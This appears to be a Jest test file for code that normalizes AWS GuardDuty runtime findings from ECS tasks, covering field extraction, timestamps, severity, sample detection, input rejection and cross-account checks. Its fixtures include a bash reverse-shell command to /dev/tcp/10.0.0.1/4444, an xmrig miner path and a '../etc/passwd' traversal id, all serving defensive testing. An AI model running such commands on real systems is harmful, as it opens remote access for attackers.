import { CrossAccountFindingError, InvalidFindingError } from '../../lambdas/core/errors';
import { describeFindingType, normalizeRuntimeFinding, severityLabel } from '../../lambdas/core/finding';
import { ACCOUNT, REGION, runtimeEvent } from '../../local/fixtures/events';

const OTHER_ACCOUNT = '444455556666';
const NOW = Date.UTC(2026, 10, 28, 12, 0, 0);

type Obj = Record<string, unknown>;

function isObj(value: unknown): value is Obj {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

/** The object at a dotted path of an event, created on the way when missing. */
function at(event: Obj, path: readonly string[]): Obj {
  let node: Obj = event;
  for (const key of path) {
    const next = node[key];
    if (!isObj(next)) {
      const created: Obj = {};
      node[key] = created;
      node = created;
    } else {
      node = next;
    }
  }
  return node;
}

/** Sets (or, with `undefined`, deletes) the field at a dotted path. */
function set(event: Obj, path: string, value: unknown): Obj {
  const keys = path.split('.');
  const last = keys.pop() ?? '';
  const parent = at(event, keys);
  if (value === undefined) delete parent[last];
  else parent[last] = value;
  return event;
}

const TASK = 'detail.resource.ecsClusterDetails.taskDetails';

function rejection(event: unknown, options = {}): InvalidFindingError {
  try {
    normalizeRuntimeFinding(event, options);
  } catch (err) {
    if (err instanceof InvalidFindingError) return err;
    throw err;
  }
  throw new Error('expected an InvalidFindingError, but the event was accepted');
}

describe('normalizeRuntimeFinding', () => {
  describe('extracted fields', () => {
    it('extracts identity, severity, account, cluster, task, containers, process and event id', () => {
      const event = runtimeEvent({
        id: 'abc123def456',
        type: 'Execution:Runtime/ReverseShell',
        severity: 8.5,
        count: 3,
        cluster: 'payments',
        taskId: '0123456789abcdef0123456789abcdef',
        service: 'checkout',
        taskTags: { team: 'pay' },
        clusterTags: { env: 'prod' },
        commandLine: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
        eventId: 'event-1',
      });

      const finding = normalizeRuntimeFinding(event);

      const taskArn = `arn:aws:ecs:${REGION}:${ACCOUNT}:task/payments/0123456789abcdef0123456789abcdef`;
      expect(finding).toEqual({
        kind: 'runtime',
        incidentId: 'abc123def456',
        findingId: 'abc123def456',
        findingArn: `arn:aws:guardduty:${REGION}:${ACCOUNT}:detector/0123456789abcdef0123456789abcdef/finding/abc123def456`,
        detectorId: '0123456789abcdef0123456789abcdef',
        type: 'Execution:Runtime/ReverseShell',
        title: 'Suspicious process in an ECS task',
        description: 'A process in task 0123456789abcdef0123456789abcdef behaved suspiciously.',
        severity: 8.5,
        severityLabel: 'HIGH',
        accountId: ACCOUNT,
        region: REGION,
        partition: 'aws',
        count: 3,
        firstSeen: '2026-11-28T10:01:02.000Z',
        lastSeen: '2026-11-28T10:01:02.000Z',
        updatedAt: '2026-11-28T10:01:35.212Z',
        sample: false,
        cluster: {
          name: 'payments',
          arn: `arn:aws:ecs:${REGION}:${ACCOUNT}:cluster/payments`,
          tags: { env: 'prod' },
        },
        hasTask: true,
        task: {
          arn: taskArn,
          id: '0123456789abcdef0123456789abcdef',
          definitionArn: `arn:aws:ecs:${REGION}:${ACCOUNT}:task-definition/checkout:3`,
          launchType: 'FARGATE',
          group: 'service:checkout',
          serviceName: 'checkout',
          startedAt: '2025-11-28T09:38:20.250Z',
          tags: { team: 'pay' },
        },
        containers: [
          {
            name: 'app',
            image: {
              uri: `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/payments-api:v1.4.2`,
              registry: `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com`,
              repository: 'payments-api',
              tag: 'v1.4.2',
              ecr: { accountId: ACCOUNT, region: REGION },
            },
          },
        ],
        process: {
          name: 'xmrig',
          executablePath: '/tmp/.x/xmrig',
          pid: '4242',
          user: 'root',
          commandLine: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
          parent: { name: 'sh', executablePath: '/bin/sh', pid: '4240' },
        },
        eventId: 'event-1',
        forced: false,
      });
    });

    it('marks a finding an operator forced (respond --force) and no other', () => {
      const event = runtimeEvent();
      expect(normalizeRuntimeFinding(event).forced).toBe(false);
      expect(normalizeRuntimeFinding({ ...event, 'shield-right': { force: true } }).forced).toBe(true);
      expect(normalizeRuntimeFinding({ ...event, 'shield-right': { force: 'yes' } }).forced).toBe(false);
    });

    it('takes the service name from group service:NAME and none from a family group', () => {
      const withService = normalizeRuntimeFinding(runtimeEvent({ service: 'orders' }));
      const batch = normalizeRuntimeFinding(runtimeEvent({ service: null }));

      expect(withService.task?.serviceName).toBe('orders');
      expect(batch.task?.group).toBe('family:batch');
      expect(batch.task?.serviceName).toBeUndefined();
    });

    it('treats a finding without taskDetails as cluster-level: hasTask false, no containers', () => {
      const finding = normalizeRuntimeFinding(runtimeEvent({ withoutTask: true }));

      expect(finding.hasTask).toBe(false);
      expect(finding.task).toBeUndefined();
      expect(finding.containers).toEqual([]);
      expect(finding.cluster.name).toBe('prod');
    });

    it('reads the process and its parent from the first lineage entry, command line from the process when no context', () => {
      const event = runtimeEvent();
      set(event, 'detail.service.runtimeDetails.process.commandLine', '/tmp/.x/xmrig --donate-level 0');
      set(event, 'detail.service.runtimeDetails.process.executableSha256', 'f'.repeat(64));
      set(event, 'detail.service.runtimeDetails.process.lineage', [
        { name: 'bash', executablePath: '/bin/bash', pid: 10 },
        { name: 'init', executablePath: '/sbin/init', pid: 1 },
      ]);

      const finding = normalizeRuntimeFinding(event);

      expect(finding.process).toEqual({
        name: 'xmrig',
        executablePath: '/tmp/.x/xmrig',
        executableSha256: 'f'.repeat(64),
        pid: '4242',
        user: 'root',
        commandLine: '/tmp/.x/xmrig --donate-level 0',
        parent: { name: 'bash', executablePath: '/bin/bash', pid: '10' },
      });
    });

    it('omits the process when the finding has no runtime details, and the parent when lineage is empty', () => {
      const noRuntime = set(runtimeEvent(), 'detail.service.runtimeDetails', undefined);
      const noLineage = set(runtimeEvent(), 'detail.service.runtimeDetails.process.lineage', []);

      expect(normalizeRuntimeFinding(noRuntime).process).toBeUndefined();
      const process = normalizeRuntimeFinding(noLineage).process;
      expect(process?.name).toBe('xmrig');
      expect(process?.parent).toBeUndefined();
    });

    it('defaults the container name and upper-cases the launch type', () => {
      const event = runtimeEvent();
      set(event, `${TASK}.containers`, [{ image: 'nginx:1.25' }]);
      set(event, `${TASK}.launchType`, 'fargate');

      const finding = normalizeRuntimeFinding(event);

      expect(finding.containers).toEqual([
        {
          name: 'container-0',
          image: { uri: 'nginx:1.25', registry: 'docker.io', repository: 'nginx', tag: '1.25' },
        },
      ]);
      expect(finding.task?.launchType).toBe('FARGATE');
    });

    it('builds the cluster ARN from partition, region, account and name when the finding omits it', () => {
      const event = set(
        runtimeEvent({ cluster: 'edge' }),
        'detail.resource.ecsClusterDetails.arn',
        undefined,
      );

      expect(normalizeRuntimeFinding(event).cluster.arn).toBe(
        `arn:aws:ecs:${REGION}:${ACCOUNT}:cluster/edge`,
      );
    });

    it('falls back to the envelope account and region when the detail omits them', () => {
      const event = runtimeEvent();
      set(event, 'detail.accountId', undefined);
      set(event, 'detail.region', undefined);
      set(event, 'detail.partition', undefined);

      const finding = normalizeRuntimeFinding(event);

      expect(finding.accountId).toBe(ACCOUNT);
      expect(finding.region).toBe(REGION);
      expect(finding.partition).toBe('aws');
    });

    it('uses the finding id as event id when the envelope has none, and clips long event ids to 128', () => {
      const noId = set(runtimeEvent({ id: 'f1' }), 'id', undefined);
      const longId = runtimeEvent({ eventId: 'e'.repeat(300) });

      expect(normalizeRuntimeFinding(noId).eventId).toBe('f1');
      expect(normalizeRuntimeFinding(longId).eventId).toBe('e'.repeat(128));
    });

    it('reads count from a numeric string and truncates fractions; defaults it to 1', () => {
      const text = set(runtimeEvent(), 'detail.service.count', '7');
      const fraction = set(runtimeEvent(), 'detail.service.count', 2.9);
      const missing = set(runtimeEvent(), 'detail.service.count', undefined);

      expect(normalizeRuntimeFinding(text).count).toBe(7);
      expect(normalizeRuntimeFinding(fraction).count).toBe(2);
      expect(normalizeRuntimeFinding(missing).count).toBe(1);
    });

    it('accepts tags with capitalized Key/Value and ignores tags without a key', () => {
      const event = set(runtimeEvent(), `${TASK}.tags`, [
        { Key: 'Owner', Value: 'sec' },
        { value: 'orphan' },
        { key: 'flag' },
      ]);

      expect(normalizeRuntimeFinding(event).task?.tags).toEqual({ Owner: 'sec', flag: '' });
    });
  });

  describe('timestamps', () => {
    it.each<[string, unknown, string]>([
      ['ISO 8601', '2026-11-28T10:01:35.212Z', '2026-11-28T10:01:35.212Z'],
      ['epoch seconds (float)', 1764322681.5, '2025-11-28T09:38:01.500Z'],
      ['epoch milliseconds', 1764322681500, '2025-11-28T09:38:01.500Z'],
      ['epoch seconds as a string', '1764322681', '2025-11-28T09:38:01.000Z'],
      ['Inspector Java date', 'Wed Sep 04 16:55:38.411 UTC 2024', '2024-09-04T16:55:38.411Z'],
      ['Inspector US date', 'Dec 3, 2021, 6:02:30 PM', '2021-12-03T18:02:30.000Z'],
    ])('normalizes updatedAt given as %s', (_form, value, iso) => {
      const event = set(runtimeEvent(), 'detail.updatedAt', value);

      expect(normalizeRuntimeFinding(event).updatedAt).toBe(iso);
    });

    it('normalizes eventFirstSeen/eventLastSeen and the task start in epoch form', () => {
      const event = runtimeEvent();
      set(event, 'detail.service.eventFirstSeen', 1764322600);
      set(event, 'detail.service.eventLastSeen', 1764322700000);

      const finding = normalizeRuntimeFinding(event);

      expect(finding.firstSeen).toBe('2025-11-28T09:36:40.000Z');
      expect(finding.lastSeen).toBe('2025-11-28T09:38:20.000Z');
      expect(finding.task?.startedAt).toBe('2025-11-28T09:38:20.250Z');
    });

    it('falls back: updatedAt → envelope time → clock; firstSeen → createdAt; lastSeen → updatedAt', () => {
      const event = runtimeEvent();
      set(event, 'detail.updatedAt', 'not a date');
      set(event, 'detail.service.eventFirstSeen', undefined);
      set(event, 'detail.service.eventLastSeen', undefined);

      const finding = normalizeRuntimeFinding(event, { now: () => NOW });

      expect(finding.updatedAt).toBe('2026-11-28T10:01:40.000Z');
      expect(finding.firstSeen).toBe('2026-11-28T10:01:35.212Z');
      expect(finding.lastSeen).toBe('2026-11-28T10:01:40.000Z');

      set(event, 'time', 'garbage');
      set(event, 'detail.createdAt', undefined);
      const clocked = normalizeRuntimeFinding(event, { now: () => NOW });
      expect(clocked.updatedAt).toBe(new Date(NOW).toISOString());
      expect(clocked.firstSeen).toBe(new Date(NOW).toISOString());
    });

    it('ignores implausible timestamps (before 2000) instead of using them', () => {
      const event = set(runtimeEvent(), 'detail.updatedAt', 86_400);

      expect(normalizeRuntimeFinding(event).updatedAt).toBe('2026-11-28T10:01:40.000Z');
    });
  });

  describe('severity bands', () => {
    it.each<[number, string]>([
      [0, 'LOW'],
      [1, 'LOW'],
      [3.9, 'LOW'],
      [4, 'MEDIUM'],
      [6.9, 'MEDIUM'],
      [7, 'HIGH'],
      [8.9, 'HIGH'],
      [9, 'CRITICAL'],
      [10, 'CRITICAL'],
    ])('severity %d is %s', (severity, label) => {
      expect(normalizeRuntimeFinding(runtimeEvent({ severity })).severityLabel).toBe(label);
      expect(severityLabel(severity)).toBe(label);
    });

    it('accepts severity as a numeric string', () => {
      const event = set(runtimeEvent(), 'detail.severity', '7.5');

      expect(normalizeRuntimeFinding(event)).toMatchObject({ severity: 7.5, severityLabel: 'HIGH' });
    });
  });

  describe('sample findings', () => {
    it('detects additionalInfo.sample = true', () => {
      const event = set(runtimeEvent(), 'detail.service.additionalInfo', { sample: true, type: 'default' });

      expect(normalizeRuntimeFinding(event).sample).toBe(true);
    });

    it('detects "sample": true inside the additionalInfo.value JSON string', () => {
      const event = set(runtimeEvent(), 'detail.service.additionalInfo', {
        value: '{"unusual": 1, "sample" : true}',
        type: 'default',
      });

      expect(normalizeRuntimeFinding(event).sample).toBe(true);
    });

    it('is not a sample when additionalInfo says nothing of it', () => {
      expect(normalizeRuntimeFinding(runtimeEvent()).sample).toBe(false);
      const falseSample = set(runtimeEvent(), 'detail.service.additionalInfo', { value: '{"sample":false}' });
      expect(normalizeRuntimeFinding(falseSample).sample).toBe(false);
    });

    it('reads unparseable text without a sample marker as text, not as a sample (a truncated real value)', () => {
      const event = set(runtimeEvent(), 'detail.service.additionalInfo', {
        value: 'sample rate 5%, truncat',
      });

      expect(normalizeRuntimeFinding(event).sample).toBe(false);
    });

    it('reads a unicode-escaped key as JSON does (it is the documented field)', () => {
      const event = set(runtimeEvent(), 'detail.service.additionalInfo', { value: '{"\\u0073ample":true}' });

      expect(normalizeRuntimeFinding(event).sample).toBe(true);
    });

    it.each([
      ['sample "TRUE"', { sample: 'TRUE' }, 'additionalInfo.sample'],
      ['sample "true" (a string)', { sample: 'true' }, 'additionalInfo.sample'],
      ['sample 1', { sample: 1 }, 'additionalInfo.sample'],
      ['value {"sample":"TRUE"}', { value: '{"sample":"TRUE"}' }, 'additionalInfo.value'],
      ['value {"sample":1}', { value: '{"sample":1}' }, 'additionalInfo.value'],
      ['a sample marker in text that is not JSON', { value: '{"sample":true' }, 'additionalInfo.value'],
    ])('rejects what only looks like a sample (%s): neither trusted nor acted on', (_name, info, field) => {
      const event = set(runtimeEvent(), 'detail.service.additionalInfo', info);

      expect(() => normalizeRuntimeFinding(event)).toThrow(
        expect.objectContaining({ name: 'InvalidFindingError', field: `detail.service.${field}` }),
      );
    });

    it('does not check the placeholder ARNs of a sample finding for account ownership', () => {
      const event = runtimeEvent({ sample: true });
      set(event, `${TASK}.arn`, 'arn:aws:ecs:us-east-1:123456789012:task/sample/abcdef');
      set(
        event,
        'detail.resource.ecsClusterDetails.arn',
        'arn:aws:ecs:us-east-1:123456789012:cluster/sample',
      );

      const finding = normalizeRuntimeFinding(event);

      expect(finding.sample).toBe(true);
      expect(finding.task?.arn).toBe('arn:aws:ecs:us-east-1:123456789012:task/sample/abcdef');
    });
  });

  describe('invalid input', () => {
    it.each<[string, (event: Obj) => unknown, string]>([
      ['a non-object event', () => 'text', 'event'],
      ['a wrong source', (e) => set(e, 'source', 'aws.securityhub'), 'source'],
      ['a missing source', (e) => set(e, 'source', undefined), 'source'],
      ['a wrong detail-type', (e) => set(e, 'detail-type', 'GuardDuty Runtime Protection'), 'detail-type'],
      ['a malformed account', (e) => set(e, 'account', '12345'), 'account'],
      ['a missing detail', (e) => set(e, 'detail', undefined), 'detail'],
      ['a finding id with unsafe characters', (e) => set(e, 'detail.id', '../etc/passwd'), 'detail.id'],
      ['a finding id longer than 128', (e) => set(e, 'detail.id', 'a'.repeat(129)), 'detail.id'],
      ['an empty type', (e) => set(e, 'detail.type', ''), 'detail.type'],
      ['a severity above 10', (e) => set(e, 'detail.severity', 11), 'detail.severity'],
      ['a negative severity', (e) => set(e, 'detail.severity', -1), 'detail.severity'],
      ['a non-numeric severity', (e) => set(e, 'detail.severity', 'HIGH'), 'detail.severity'],
      ['a malformed detail account', (e) => set(e, 'detail.accountId', 'abc'), 'detail.accountId'],
      ['a malformed region', (e) => set(e, 'detail.region', 'Mars'), 'detail.region'],
      ['an unknown partition', (e) => set(e, 'detail.partition', 'gcp'), 'detail.partition'],
      [
        "a partition that is not the region's",
        (e) => set(e, 'detail.partition', 'aws-us-gov'),
        'detail.partition',
      ],
      ['a missing service', (e) => set(e, 'detail.service', undefined), 'detail.service'],
      ['a zero count', (e) => set(e, 'detail.service.count', 0), 'detail.service.count'],
      ['a missing resource', (e) => set(e, 'detail.resource', undefined), 'detail.resource'],
      [
        'an EKS resource type',
        (e) => set(e, 'detail.resource.resourceType', 'EKSCluster'),
        'detail.resource.resourceType',
      ],
      [
        'missing ecsClusterDetails',
        (e) => set(e, 'detail.resource.ecsClusterDetails', undefined),
        'detail.resource.ecsClusterDetails',
      ],
      [
        'a cluster name with a slash',
        (e) => set(e, 'detail.resource.ecsClusterDetails.name', 'a/b'),
        'detail.resource.ecsClusterDetails.name',
      ],
      [
        'a cluster ARN that is not an ECS cluster ARN',
        (e) =>
          set(e, 'detail.resource.ecsClusterDetails.arn', 'arn:aws:eks:us-east-1:111122223333:cluster/x'),
        'detail.resource.ecsClusterDetails.arn',
      ],
      [
        'cluster tags that are not a list',
        (e) => set(e, 'detail.resource.ecsClusterDetails.tags', { env: 'prod' }),
        'detail.resource.ecsClusterDetails.tags',
      ],
      ['taskDetails that are not an object', (e) => set(e, TASK, 'task'), TASK],
      ['a task without ARN', (e) => set(e, `${TASK}.arn`, undefined), `${TASK}.arn`],
      [
        'a task ARN that is not a task ARN',
        (e) => set(e, `${TASK}.arn`, 'arn:aws:s3:::bucket'),
        `${TASK}.arn`,
      ],
      ['a numeric task group', (e) => set(e, `${TASK}.group`, 5), `${TASK}.group`],
      ['task tags that are not a list', (e) => set(e, `${TASK}.tags`, 'a=b'), `${TASK}.tags`],
      ['a task tag that is not an object', (e) => set(e, `${TASK}.tags`, ['a=b']), `${TASK}.tags[0]`],
      ['containers that are not a list', (e) => set(e, `${TASK}.containers`, {}), `${TASK}.containers`],
      [
        'more than 100 containers',
        (e) =>
          set(
            e,
            `${TASK}.containers`,
            Array.from({ length: 101 }, () => ({ image: 'nginx' })),
          ),
        `${TASK}.containers`,
      ],
      [
        'a container that is not an object',
        (e) => set(e, `${TASK}.containers`, ['nginx']),
        `${TASK}.containers[0]`,
      ],
      [
        'a container without image',
        (e) => set(e, `${TASK}.containers`, [{ name: 'app', image: 'nginx' }, { name: 'side' }]),
        `${TASK}.containers[1].image`,
      ],
      [
        'runtimeDetails that are not an object',
        (e) => set(e, 'detail.service.runtimeDetails', []),
        'detail.service.runtimeDetails',
      ],
      [
        'a malformed detector id',
        (e) => set(e, 'detail.service.detectorId', 'a b'),
        'detail.service.detectorId',
      ],
      ['a non-string finding ARN', (e) => set(e, 'detail.arn', 42), 'detail.arn'],
      ['a type longer than 4096 characters', (e) => set(e, 'detail.type', 'x'.repeat(4097)), 'detail.type'],
    ])('rejects %s naming the field', (_case, mutate, field) => {
      const event = mutate(runtimeEvent());

      const err = rejection(event);

      expect(err.field).toBe(field);
      expect(err.name).toBe('InvalidFindingError');
      expect(err.message.startsWith(`${field}: `)).toBe(true);
    });
  });

  describe('cross-account', () => {
    it('refuses a task ARN in another account', () => {
      const event = set(
        runtimeEvent(),
        `${TASK}.arn`,
        `arn:aws:ecs:${REGION}:${OTHER_ACCOUNT}:task/prod/0123456789abcdef0123456789abcdef`,
      );

      expect(() => normalizeRuntimeFinding(event)).toThrow(CrossAccountFindingError);
      expect(() => normalizeRuntimeFinding(event)).toThrow(/account 444455556666/);
    });

    it('refuses a finding whose detail account is another account', () => {
      const event = set(runtimeEvent(), 'detail.accountId', OTHER_ACCOUNT);

      expect(() => normalizeRuntimeFinding(event)).toThrow(CrossAccountFindingError);
    });

    it('refuses a cluster ARN in another account', () => {
      const event = set(
        runtimeEvent(),
        'detail.resource.ecsClusterDetails.arn',
        `arn:aws:ecs:${REGION}:${OTHER_ACCOUNT}:cluster/prod`,
      );

      expect(() => normalizeRuntimeFinding(event)).toThrow(CrossAccountFindingError);
    });

    it('accepts resources of an account listed in allowedAccounts', () => {
      const taskArn = `arn:aws:ecs:${REGION}:${OTHER_ACCOUNT}:task/prod/0123456789abcdef0123456789abcdef`;
      const event = runtimeEvent();
      set(event, `${TASK}.arn`, taskArn);
      set(event, 'detail.accountId', OTHER_ACCOUNT);
      set(
        event,
        'detail.resource.ecsClusterDetails.arn',
        `arn:aws:ecs:${REGION}:${OTHER_ACCOUNT}:cluster/prod`,
      );

      const finding = normalizeRuntimeFinding(event, { allowedAccounts: [OTHER_ACCOUNT] });

      expect(finding.accountId).toBe(OTHER_ACCOUNT);
      expect(finding.task?.arn).toBe(taskArn);
    });
  });
});

describe('describeFindingType', () => {
  it.each<[string, string]>([
    ['Execution:Runtime/ReverseShell', 'Execution: reverse shell'],
    ['CryptoCurrency:Runtime/BitcoinTool.B', 'CryptoCurrency: bitcoin tool'],
    ['Backdoor:Runtime/C&CActivity.B!DNS', 'Backdoor: c&c activity'],
    ['UnauthorizedAccess:Runtime/MetadataDNSRebind', 'UnauthorizedAccess: metadata dns rebind'],
    ['PrivilegeEscalation:Runtime/DockerSocketAccessed', 'PrivilegeEscalation: docker socket accessed'],
    ['Impact:Runtime/CryptoMinerExecuted', 'Impact: crypto miner executed'],
    ['SomethingNew', 'something new'],
  ])('%s → %s', (type, words) => {
    expect(describeFindingType(type)).toBe(words);
  });
});
